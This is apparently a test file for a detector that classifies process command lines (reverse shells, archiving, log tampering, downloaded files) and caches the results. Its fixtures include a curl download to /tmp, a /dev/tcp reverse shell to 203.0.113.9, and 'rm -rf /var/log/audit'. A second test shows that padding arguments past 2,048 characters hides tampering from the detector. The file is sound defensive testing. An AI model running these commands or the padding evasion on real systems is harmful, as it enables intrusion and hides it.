/** What is remembered of command lines is what they tell. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { isArchiving } from "../../../nodes/windows/archiving.ts";
import { namesOfBrought } from "../../../nodes/windows/brought-files.ts";
import { commandOf } from "../../../nodes/windows/command.ts";
import { placeOf } from "../../../nodes/windows/place.ts";
import { isReverseShell } from "../../../nodes/windows/reverse-shell.ts";
import { tamperingOf } from "../../../nodes/windows/tampering.ts";

const binaries = ["/bin/sh", "/usr/bin/tar", "/usr/bin/curl", "/bin/rm", "/tmp/x", ""];
const told = [
  "-c 'curl http://203.0.113.9/x -o /tmp/x'",
  "-c 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
  "czf - /var/lib/data",
  "-rf /var/log/audit",
  "",
];

test("a command line tells the same at first, remembered, and after it was forgotten among many others", () => {
  let notOrdinary = 0;
  for (let round = 0; round < 3; round++) {
    for (const binary of binaries) {
      for (const given of told) {
        const process = { pid: 1, uid: 0, binary, arguments: given, containerId: "", image: "" };
        const command = commandOf(process);
        assert.deepEqual(command, {
          place: placeOf(binary),
          isReverseShell: isReverseShell(process),
          isArchiving: isArchiving(process),
          tampering: tamperingOf(process),
          namesOfBrought: namesOfBrought(process),
        });
        const { place, tampering, namesOfBrought: names } = command;
        const isOrdinary = place === undefined && tampering.length === 0 && names.length === 0;
        if (!isOrdinary || command.isReverseShell || command.isArchiving) notOrdinary += 1;
      }
    }
    if (round === 0) continue;
    for (let other = 0; other < 10_000; other++) {
      commandOf({ pid: 1, uid: 0, binary: "/bin/true", arguments: `${other}`, containerId: "", image: "" });
    }
  }
  assert.equal(notOrdinary % 3, 0);
  assert.ok(notOrdinary >= 30, `${notOrdinary} told something`);
});

test("of arguments the first 2,048 characters are looked at, and remembered", () => {
  const process = { pid: 1, uid: 0, binary: "/bin/rm", containerId: "", image: "" };
  const padded = (length: number): string => `-rf ${"x".repeat(length)} /var/log/audit`;
  assert.deepEqual(commandOf({ ...process, arguments: padded(2000) }).tampering, ["logs_cleared"]);
  const hidden = commandOf({ ...process, arguments: padded(2048) });
  assert.deepEqual(hidden.tampering, []);
  assert.equal(commandOf({ ...process, arguments: padded(1_000_000) }), hidden);
});
